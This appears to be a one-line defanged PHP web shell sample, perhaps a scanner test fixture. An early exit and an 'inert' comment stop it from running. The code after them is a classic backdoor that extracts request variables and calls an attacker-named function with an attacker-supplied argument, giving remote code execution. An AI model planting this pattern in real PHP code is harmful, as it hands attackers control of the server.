<?php exit; /* inert */ @extract($_REQUEST);@die($ctime($atime));
